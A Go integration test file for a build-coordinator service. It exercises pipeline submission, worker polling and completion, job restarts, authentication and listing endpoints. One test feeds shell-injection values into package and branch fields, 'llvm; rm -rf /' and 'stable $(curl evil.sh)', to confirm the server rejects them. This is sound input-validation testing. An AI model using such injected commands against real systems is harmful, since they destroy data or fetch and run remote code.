package integration_tests

import (
	"context"
	"io"
	"net/http"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/buildit-dev/buildit/common/gerror"
	"github.com/buildit-dev/buildit/common/logger"
	"github.com/buildit-dev/buildit/common/models"
	"github.com/buildit-dev/buildit/server/api/rest/client"
	"github.com/buildit-dev/buildit/server/api/rest/documents"
	"github.com/buildit-dev/buildit/server/app/server_test"
	"github.com/buildit-dev/buildit/server/dto"
	"github.com/buildit-dev/buildit/server/services"
)

// TestCoordinatorEndToEnd drives a pipeline through the REST API the way the
// real actors do: a maintainer exchanges a forge token and submits, a worker
// heartbeats, polls and completes, and the public query surface reports it all.
func TestCoordinatorEndToEnd(t *testing.T) {
	ctx := context.Background()
	app, cleanup, err := server_test.New(logger.NoOpLogFactory)
	require.NoError(t, err)
	defer cleanup()

	app.Resolver.
		AddBranch("stable", "0123456789abcdef0123456789abcdef01234567").
		AddUser(&services.ForgeUser{ID: 7, Login: "mingcongbai", AvatarURL: "https://example.com/a.png"}, true).
		AddToken("forge-pat", &services.ForgeUser{ID: 7, Login: "mingcongbai"})

	publicClient, err := client.NewAPIClient(app.URL(), nil, logger.NoOpLogFactory)
	require.NoError(t, err)

	// Pre-flight
	require.NoError(t, publicClient.Ping(ctx))

	// A worker presenting the wrong secret is rejected
	badWorkerClient, err := client.NewAPIClient(app.URL(), client.NewWorkerSecretAuthenticator("wrong"), logger.NoOpLogFactory)
	require.NoError(t, err)
	_, err = badWorkerClient.Heartbeat(ctx, &documents.HeartbeatRequest{Hostname: "intruder", Arch: "amd64"})
	require.Error(t, err)

	// The maintainer trades a forge token for a submitter JWT
	exchanged, err := publicClient.ExchangeToken(ctx, "forge-pat")
	require.NoError(t, err)
	require.Equal(t, "mingcongbai", exchanged.Login)
	require.NotEmpty(t, exchanged.Token)

	submitterClient, err := client.NewAPIClient(app.URL(), client.NewBearerTokenAuthenticator(exchanged.Token), logger.NoOpLogFactory)
	require.NoError(t, err)

	graph, err := submitterClient.CreatePipeline(ctx, &documents.CreatePipelineRequest{
		Packages:  []string{"llvm", "rustc"},
		Archs:     []string{"amd64"},
		GitBranch: "stable",
	})
	require.NoError(t, err)
	require.Len(t, graph.Jobs, 1)
	require.Equal(t, models.PipelineStatusRunning, graph.Status)
	require.Equal(t, "mingcongbai", *graph.CreatorLogin)
	job := graph.Jobs[0]
	require.Equal(t, models.JobStatusCreated, job.Status)

	// The worker registers and claims the job
	workerClient, err := client.NewAPIClient(app.URL(), client.NewWorkerSecretAuthenticator(server_test.TestWorkerSecret), logger.NoOpLogFactory)
	require.NoError(t, err)
	worker, err := workerClient.Heartbeat(ctx, &documents.HeartbeatRequest{
		Hostname:     "avalon",
		Arch:         "amd64",
		LogicalCores: 32,
		MemoryBytes:  64 << 30,
	})
	require.NoError(t, err)

	claimed, err := workerClient.Poll(ctx, &documents.PollRequest{
		WorkerID:     worker.ID,
		LogicalCores: 32,
		MemoryBytes:  64 << 30,
	})
	require.NoError(t, err)
	require.NotNil(t, claimed)
	require.Equal(t, job.ID, claimed.ID)
	require.Equal(t, models.JobStatusAssigned, claimed.Status)

	// The build fails at the second package
	failedPackage := "rustc"
	finished, err := workerClient.Complete(ctx, &documents.CompleteRequest{
		WorkerID:           worker.ID,
		JobID:              claimed.ID,
		BuildSuccess:       false,
		SuccessfulPackages: []string{"llvm"},
		FailedPackage:      &failedPackage,
	})
	require.NoError(t, err)
	require.Equal(t, models.JobStatusFailed, finished.Status)

	// A second completion report for the same job is stale
	_, err = workerClient.Complete(ctx, &documents.CompleteRequest{
		WorkerID:     worker.ID,
		JobID:        claimed.ID,
		BuildSuccess: true,
	})
	require.Error(t, err)
	require.True(t, gerror.IsStale(err))

	// The maintainer restarts the failed job and the worker builds the clone
	clone, err := submitterClient.RestartJob(ctx, claimed.ID)
	require.NoError(t, err)
	require.NotEqual(t, claimed.ID, clone.ID)
	require.Equal(t, models.JobStatusCreated, clone.Status)

	reclaimed, err := workerClient.Poll(ctx, &documents.PollRequest{
		WorkerID:     worker.ID,
		LogicalCores: 32,
		MemoryBytes:  64 << 30,
	})
	require.NoError(t, err)
	require.NotNil(t, reclaimed)
	require.Equal(t, clone.ID, reclaimed.ID)
	_, err = workerClient.Complete(ctx, &documents.CompleteRequest{
		WorkerID:           worker.ID,
		JobID:              reclaimed.ID,
		BuildSuccess:       true,
		UploadSuccess:      true,
		SuccessfulPackages: []string{"llvm", "rustc"},
	})
	require.NoError(t, err)

	// Queue is empty again
	idle, err := workerClient.Poll(ctx, &documents.PollRequest{
		WorkerID:     worker.ID,
		LogicalCores: 32,
		MemoryBytes:  64 << 30,
	})
	require.NoError(t, err)
	require.Nil(t, idle)

	// The original failed job keeps the pipeline in failed overall
	fetched, err := publicClient.GetPipeline(ctx, graph.ID)
	require.NoError(t, err)
	require.Equal(t, models.PipelineStatusFailed, fetched.Status)
	require.Len(t, fetched.Jobs, 2)

	pipelines, total, err := publicClient.ListPipelines(ctx, dto.PipelineSearch{Pagination: models.NewPagination(1, 10)})
	require.NoError(t, err)
	require.EqualValues(t, 1, total)
	require.Len(t, pipelines, 1)

	stable, total, err := publicClient.ListPipelines(ctx, dto.PipelineSearch{
		Pagination: models.NewPagination(1, 10),
		StableOnly: true,
	})
	require.NoError(t, err)
	require.EqualValues(t, 1, total)
	require.Len(t, stable, 1)

	jobs, jobTotal, err := publicClient.ListJobs(ctx, models.NewPagination(1, 10))
	require.NoError(t, err)
	require.EqualValues(t, 2, jobTotal)
	require.Len(t, jobs, 2)

	workers, workerTotal, err := publicClient.ListWorkers(ctx, models.NewPagination(1, 10))
	require.NoError(t, err)
	require.EqualValues(t, 1, workerTotal)
	require.True(t, workers[0].IsLive)

	dashboard, err := publicClient.Dashboard(ctx)
	require.NoError(t, err)
	require.EqualValues(t, 1, dashboard.TotalPipelineCount)
	require.EqualValues(t, 2, dashboard.TotalJobCount)
	require.EqualValues(t, 2, dashboard.FinishedJobCount)
	require.EqualValues(t, 1, dashboard.LiveWorkerCount)
	require.EqualValues(t, 32, dashboard.TotalLogicalCores)
	amd64, ok := dashboard.ByArch["amd64"]
	require.True(t, ok)
	require.EqualValues(t, 2, amd64.TotalJobCount)
}

// TestSubmitRequiresAuth checks that the submission surface rejects anonymous
// and chat-credential-less requests while the query surface stays open.
func TestSubmitRequiresAuth(t *testing.T) {
	ctx := context.Background()
	app, cleanup, err := server_test.New(logger.NoOpLogFactory)
	require.NoError(t, err)
	defer cleanup()

	app.Resolver.AddBranch("stable", "0123456789abcdef0123456789abcdef01234567")

	anonClient, err := client.NewAPIClient(app.URL(), nil, logger.NoOpLogFactory)
	require.NoError(t, err)

	_, err = anonClient.CreatePipeline(ctx, &documents.CreatePipelineRequest{
		Packages:  []string{"llvm"},
		GitBranch: "stable",
	})
	require.Error(t, err)

	_, _, err = anonClient.ListPipelines(ctx, dto.PipelineSearch{Pagination: models.NewPagination(1, 10)})
	require.NoError(t, err)
}

// TestSubmitRejectsUnsafeCharacters checks that package lists and branch
// names that could smuggle shell syntax onto a worker's command line are
// rejected before anything is stored.
func TestSubmitRejectsUnsafeCharacters(t *testing.T) {
	ctx := context.Background()
	app, cleanup, err := server_test.New(logger.NoOpLogFactory)
	require.NoError(t, err)
	defer cleanup()

	app.Resolver.
		AddBranch("stable", "0123456789abcdef0123456789abcdef01234567").
		AddUser(&services.ForgeUser{ID: 7, Login: "mingcongbai"}, true).
		AddToken("forge-pat", &services.ForgeUser{ID: 7, Login: "mingcongbai"})

	publicClient, err := client.NewAPIClient(app.URL(), nil, logger.NoOpLogFactory)
	require.NoError(t, err)
	exchanged, err := publicClient.ExchangeToken(ctx, "forge-pat")
	require.NoError(t, err)
	submitterClient, err := client.NewAPIClient(app.URL(), client.NewBearerTokenAuthenticator(exchanged.Token), logger.NoOpLogFactory)
	require.NoError(t, err)

	_, err = submitterClient.CreatePipeline(ctx, &documents.CreatePipelineRequest{
		Packages:  []string{"llvm; rm -rf /"},
		GitBranch: "stable",
	})
	require.Error(t, err)
	require.True(t, gerror.IsValidationFailed(err))

	_, err = submitterClient.CreatePipeline(ctx, &documents.CreatePipelineRequest{
		Packages:  []string{"llvm"},
		GitBranch: "stable $(curl evil.sh)",
	})
	require.Error(t, err)
	require.True(t, gerror.IsValidationFailed(err))

	// The safe charset still admits real-world names
	graph, err := submitterClient.CreatePipeline(ctx, &documents.CreatePipelineRequest{
		Packages:  []string{"libstdc++6", "python-3.11"},
		Archs:     []string{"amd64"},
		GitBranch: "stable",
	})
	require.NoError(t, err)
	require.Len(t, graph.Jobs, 1)
}

// TestWorkerListEmptyPage checks the raw JSON of an empty worker listing:
// items must be an empty array, never null, since API consumers index into
// it without a nil check.
func TestWorkerListEmptyPage(t *testing.T) {
	app, cleanup, err := server_test.New(logger.NoOpLogFactory)
	require.NoError(t, err)
	defer cleanup()

	resp, err := http.Get(app.URL() + "/api/worker/list?page=1&items_per_page=10")
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)

	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	require.Contains(t, string(body), `"items":[]`)
}
